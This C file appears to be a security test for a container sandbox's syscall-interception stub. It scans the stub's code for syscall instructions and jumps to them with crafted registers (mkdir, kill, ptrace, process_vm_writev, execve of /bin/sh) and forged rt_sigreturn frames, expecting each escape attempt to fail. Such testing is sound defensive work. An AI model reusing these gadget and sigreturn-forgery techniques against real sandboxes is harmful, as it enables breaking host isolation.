/*
 * stub_gadgets: jump to the `syscall` instructions of the sandbox's own code
 * with crafted registers (escape attempt 2 of issue 3).
 *
 * The stub's code lives in the workload's address space, readable: the
 * workload finds it (attempt.c discovers the reserved ranges), scans it for
 * 0f 05 (every occurrence, aligned to an instruction or not), and jumps to
 * one with rax and the argument registers set for a call that would touch
 * the host. What must happen:
 *   systrap: the stub's filter B lets code in the stub's range make only
 *            rt_sigreturn, exit, futex and arch_prctl; anything else kills
 *            the whole stub (SECCOMP_RET_KILL_PROCESS), and the sandbox with
 *            it. `exit` is allowed but only ends the stub thread: the
 *            sentry sees its thread die and kills the sandbox.
 *   ptrace:  every system call stops at entry (PTRACE_SYSEMU) wherever it
 *            is: the sentry serves it like any other, then the code after
 *            the instruction runs (an int3 there: SIGTRAP).
 * The vDSO's `syscall` instructions are tried the same way: outside the
 * stub's range they are the workload's own calls, served by the sentry.
 * In no case may the host see the call: security.sh checks the markers
 * (a directory not created, a file not unlinked, a victim process not
 * killed, traced or written).
 *
 * usage:
 *   stub_gadgets list
 *       prints `stub INDEX OFFSET` (INDEX-th stub code range) and
 *       `vdso 0 OFFSET` for each 0f 05 found, and `block` if there is a
 *       systrap block; exits 0 if at least one stub gadget was found.
 *       Addresses change with every sandbox: hence offsets.
 *   stub_gadgets try stub|vdso INDEX OFFSET CALL HOSTDIR VPID VADDR
 *       finds the range again, jumps to its start + OFFSET with CALL's
 *       registers; never returns normally. If the
 *       code after the instruction happens to return, `landed rax=...` is
 *       printed and the exit status is 3.
 *   stub_gadgets sigreturn INDEX OFFSET VARIANT
 *       jumps to the gadget with rax = rt_sigreturn (allowed to the stub's
 *       code by filter B: it is how the signal handler returns) and rsp at
 *       a forged ucontext, then makes an ordinary system call. VARIANT:
 *         mask-all          every signal blocked, SIGSYS included: the
 *                           next trap kills the stub (a blocked forced
 *                           signal is fatal)
 *         altstack-garbage  host signal stack moved to an unaligned
 *                           address of ours: the handler's slot address
 *                           (computed from the stack) is not mapped, the
 *                           stub dies
 *         altstack-slots    signal stack moved onto the shared slots: the
 *                           same
 *         altstack-own      signal stack moved to the middle of a 2 MiB
 *                           aligned block of ours: the handler takes our
 *                           memory for its slot and waits there forever
 *         altstack-thread1  signal stack moved to thread 1's (no such
 *                           thread): the handler waits on slot 1, which no
 *                           sentry thread watches
 *       The last two hang the sandbox (see docs/security.md): security.sh
 *       runs them only when asked (SECURITY_HANGS=1).
 * CALL: mkdir unlink kill ptrace pvw execve clone exit42 mprotect-code
 *       mprotect-block (the last two need the code or block address: they
 *       are found again in the sandbox).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <ucontext.h>
#include <unistd.h>

#include "attempt.h"

/* rax, rdi, rsi, rdx, r10, r8, r9 */
struct call_regs {
	uint64_t r[7];
};

uint64_t landed_rax;
void jump_gadget(uint64_t target, const struct call_regs *regs, uint64_t stack);
void landing(void);
void landing_c(void);

/* jump_gadget(target, regs, stack): every register that could serve as a
 * pointer points into `stack`, whose words all hold `landing`: whatever
 * the code after the instruction pops, returns to or dereferences, it
 * stays in memory of ours, and a `ret` comes back to landing. */
__asm__(".text\n"
	".globl jump_gadget\n"
	"jump_gadget:\n"
	"	mov %rdi, %r11\n"
	"	mov %rsi, %rax\n"
	"	mov %rdx, %rsp\n"
	"	mov %rdx, %rbp\n"
	"	mov %rdx, %rbx\n"
	"	mov %rdx, %r12\n"
	"	mov %rdx, %r13\n"
	"	mov %rdx, %r14\n"
	"	mov %rdx, %r15\n"
	"	mov %rdx, %rcx\n"
	"	mov 8(%rax), %rdi\n"
	"	mov 16(%rax), %rsi\n"
	"	mov 24(%rax), %rdx\n"
	"	mov 32(%rax), %r10\n"
	"	mov 40(%rax), %r8\n"
	"	mov 48(%rax), %r9\n"
	"	mov (%rax), %rax\n"
	"	jmp *%r11\n"
	".globl landing\n"
	"landing:\n"
	"	mov %rax, landed_rax(%rip)\n"
	"	lea landing_stack_top(%rip), %rsp\n"
	"	call landing_c\n"
	"	ud2\n"
	".bss\n"
	".balign 16\n"
	"landing_stack: .skip 65536\n"
	"landing_stack_top:\n"
	".text\n");

void landing_c(void)
{
	printf("landed rax=%s\n", ename((long)landed_rax));
	fflush(stdout);
	RAW(SYS_exit_group, 3);
}

/* The reserved ranges move with every sandbox (the sentry's own address
 * space layout is randomized): gadgets are named by code range index and
 * offset, and found again by the run that jumps. */
static void discover(void)
{
	if (vdso_find() < 0)
		vdso = vdso_size = 0;
	find_reserved();
}

static uintptr_t code_range(int idx)
{
	for (int i = 0; i < nreserved; i++)
		if (is_code_range(&reserved[i]) && idx-- == 0)
			return reserved[i].start;
	return 0;
}

static int mode_list(void)
{
	int stub = 0, code = 0;

	discover();
	for (int i = 0; i < nreserved; i++) {
		const struct range *r = &reserved[i];
		fprintf(stderr, "stub_gadgets: reserved [%#lx, %#lx)\n",
			(unsigned long)r->start, (unsigned long)r->end);
		if (!is_code_range(r))
			continue;
		for (uintptr_t a = r->start; a < r->end; a += PAGE) {
			if (!page_reserved(a) || !readable(a))
				continue;
			const unsigned char *p = (const unsigned char *)a;
			/* A 0f on the last byte pairs with the next page. */
			uintptr_t n = a + PAGE < r->end ? PAGE : PAGE - 1;
			for (uintptr_t j = 0; j < n; j++)
				if (p[j] == 0x0f && p[j + 1] == 0x05) {
					printf(
					    "stub %d %#lx\n", code,
					    (unsigned long)(a + j - r->start));
					stub++;
				}
		}
		code++;
	}
	if (vdso) {
		const unsigned char *p = (const unsigned char *)vdso;
		for (uintptr_t j = 0; j + 1 < vdso_size; j++)
			if (p[j] == 0x0f && p[j + 1] == 0x05)
				printf("vdso 0 %#lx\n", (unsigned long)j);
	}
	if (find_block())
		printf("block\n");
	if (!stub) {
		fprintf(stderr, "stub_gadgets: no syscall instruction found "
				"in the stub's code\n");
		return 1;
	}
	return 0;
}

static uint64_t num(const char *s)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 0);
	if (errno || *end || end == s) {
		fprintf(stderr, "stub_gadgets: bad number '%s'\n", s);
		exit(2);
	}
	return v;
}

static int mode_try(int argc, char **argv)
{
	if (argc != 9) {
		fprintf(stderr,
			"usage: stub_gadgets try stub|vdso INDEX OFFSET "
			"CALL HOSTDIR VPID VADDR\n");
		return 2;
	}
	const char *where = argv[2];
	uint64_t idx = num(argv[3]), off = num(argv[4]);
	const char *call = argv[5], *dir = argv[6];
	uint64_t vpid = num(argv[7]), vaddr = num(argv[8]);
	uint64_t base;

	discover();
	if (!strcmp(where, "stub")) {
		base = code_range((int)idx);
	} else if (!strcmp(where, "vdso")) {
		base = vdso;
	} else {
		fprintf(stderr, "stub_gadgets: stub or vdso, not '%s'\n",
			where);
		return 2;
	}
	if (!base) {
		fprintf(stderr, "stub_gadgets: no %s range %lu\n", where,
			(unsigned long)idx);
		return 2;
	}
	uint64_t target = base + off;
	const unsigned char *insn = (const unsigned char *)target;
	if (insn[0] != 0x0f || insn[1] != 0x05) {
		fprintf(stderr,
			"stub_gadgets: no syscall instruction at "
			"%s %lu + %#lx\n",
			where, (unsigned long)idx, (unsigned long)off);
		return 2;
	}
	static char path[4096], cmd[4096];
	static const char payload[8] = "OWNED!!!";
	static struct iovec local = {(void *)payload, sizeof(payload)};
	static struct iovec remote;
	static char *sh_argv[4];
	struct call_regs c = {{0}};

	remote = (struct iovec){(void *)vaddr, sizeof(payload)};
	if (!strcmp(call, "mkdir")) {
		snprintf(path, sizeof(path), "%s/gadget-mkdir", dir);
		c = (struct call_regs){{SYS_mkdir, (uint64_t)path, 0755}};
	} else if (!strcmp(call, "unlink")) {
		snprintf(path, sizeof(path), "%s/existing", dir);
		c = (struct call_regs){{SYS_unlink, (uint64_t)path}};
	} else if (!strcmp(call, "kill")) {
		c = (struct call_regs){{SYS_kill, vpid, SIGKILL}};
	} else if (!strcmp(call, "ptrace")) {
		c = (struct call_regs){{SYS_ptrace, PTRACE_ATTACH, vpid}};
	} else if (!strcmp(call, "pvw")) {
		c = (struct call_regs){{SYS_process_vm_writev, vpid,
					(uint64_t)&local, 1, (uint64_t)&remote,
					1, 0}};
	} else if (!strcmp(call, "execve")) {
		snprintf(cmd, sizeof(cmd), "echo escaped > %s/gadget-exec",
			 dir);
		sh_argv[0] = "sh";
		sh_argv[1] = "-c";
		sh_argv[2] = cmd;
		sh_argv[3] = NULL;
		c = (struct call_regs){
		    {SYS_execve, (uint64_t) "/bin/sh", (uint64_t)sh_argv, 0}};
	} else if (!strcmp(call, "clone")) {
		void *stk = mmap(NULL, 65536, PROT_READ | PROT_WRITE,
				 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (stk == MAP_FAILED)
			return 2;
		c = (struct call_regs){{SYS_clone,
					CLONE_VM | CLONE_FS | CLONE_FILES |
					    CLONE_SIGHAND | CLONE_THREAD |
					    CLONE_SYSVSEM,
					(uint64_t)stk + 65536}};
	} else if (!strcmp(call, "exit42")) {
		c = (struct call_regs){{SYS_exit, 42}};
	} else if (!strcmp(call, "mprotect-code") ||
		   !strcmp(call, "mprotect-block")) {
		uintptr_t a = !strcmp(call, "mprotect-block") ? find_block()
							      : code_range(0);
		if (!a) {
			fprintf(stderr, "stub_gadgets: no target for %s\n",
				call);
			return 2;
		}
		c = (struct call_regs){{SYS_mprotect, a, 2 * PAGE,
					PROT_READ | PROT_WRITE | PROT_EXEC}};
	} else {
		fprintf(stderr, "stub_gadgets: unknown call '%s'\n", call);
		return 2;
	}

	uint64_t *stk = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stk == MAP_FAILED)
		return 2;
	for (size_t i = 0; i < (1 << 20) / 8; i++)
		stk[i] = (uint64_t)landing;
	printf("jumping to %#lx for %s\n", (unsigned long)target, call);
	fflush(stdout);
	jump_gadget(target, &c, (uint64_t)stk + (1 << 19));
	return 4; /* not reached */
}

/* After a forged rt_sigreturn: back on a stack of ours, one system call. */
static uint64_t saved_rsp;
void after_sigreturn(void);
void after_sigreturn_c(void);
__asm__(".text\n"
	".globl after_sigreturn\n"
	"after_sigreturn:\n"
	"	mov saved_rsp(%rip), %rsp\n"
	"	and $-16, %rsp\n"
	"	call after_sigreturn_c\n"
	"	ud2\n");

void after_sigreturn_c(void)
{
	/* The first trap since the forged frame: a write. */
	printf("survived the forged sigreturn\n");
	fflush(stdout);
	RAW(SYS_exit_group, 5);
}

static int mode_sigreturn(int argc, char **argv)
{
	static ucontext_t uc __attribute__((aligned(64)));
	const uintptr_t two_mib = 2UL << 20;

	if (argc != 5) {
		fprintf(stderr, "usage: stub_gadgets sigreturn INDEX OFFSET "
				"VARIANT\n");
		return 2;
	}
	discover();
	uint64_t base = code_range((int)num(argv[2]));
	uint64_t target = base + num(argv[3]);
	const char *v = argv[4];
	if (!base || ((unsigned char *)target)[0] != 0x0f ||
	    ((unsigned char *)target)[1] != 0x05) {
		fprintf(stderr, "stub_gadgets: no syscall instruction there\n");
		return 2;
	}
	char *mine = mmap(NULL, 4 * two_mib, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mine == MAP_FAILED)
		return 2;
	uintptr_t aligned = ((uintptr_t)mine + two_mib - 1) & ~(two_mib - 1);
	uintptr_t block = find_block();

	memset(&uc, 0, sizeof(uc));
	uc.uc_stack.ss_size = 16384;
	if (!strcmp(v, "mask-all")) {
		/* The mask alone: the signal stack stays where it is. */
		sigfillset(&uc.uc_sigmask);
		if (block)
			uc.uc_stack.ss_sp = (void *)(block + (1UL << 20));
		else
			uc.uc_stack.ss_flags = SS_DISABLE;
	} else if (!strcmp(v, "altstack-garbage")) {
		uc.uc_stack.ss_sp = mine + 12345 * 16;
	} else if (!strcmp(v, "altstack-own")) {
		uc.uc_stack.ss_sp = (void *)(aligned + (1UL << 20));
	} else if (!strcmp(v, "altstack-slots") && block) {
		uc.uc_stack.ss_sp = (void *)(block + 16384);
	} else if (!strcmp(v, "altstack-thread1") && block) {
		uc.uc_stack.ss_sp = (void *)(block + (1UL << 20) + 16384);
	} else {
		fprintf(stderr,
			"stub_gadgets: no sigreturn variant '%s' here\n", v);
		return 2;
	}
	greg_t *g = uc.uc_mcontext.gregs;
	g[REG_RIP] = (greg_t)after_sigreturn;
	g[REG_RSP] = (greg_t)(mine + 65536);
	g[REG_EFL] = 0x202;
	g[REG_CSGSFS] = 0x33 | (0x2bLL << 48);
	struct call_regs c = {{SYS_rt_sigreturn}};
	printf("jumping to %#lx for rt_sigreturn (%s)\n", (unsigned long)target,
	       v);
	fflush(stdout);
	__asm__ volatile("mov %%rsp, %0" : "=m"(saved_rsp));
	/* rt_sigreturn reads the frame at the stack pointer. */
	jump_gadget(target, &c, (uint64_t)&uc);
	return 4; /* not reached */
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && !strcmp(argv[1], "list"))
		return mode_list();
	if (argc >= 2 && !strcmp(argv[1], "try"))
		return mode_try(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "sigreturn"))
		return mode_sigreturn(argc, argv);
	fprintf(stderr, "usage: stub_gadgets list | try stub|vdso INDEX "
			"OFFSET CALL HOSTDIR VPID VADDR | sigreturn INDEX "
			"OFFSET VARIANT\n");
	return 2;
}
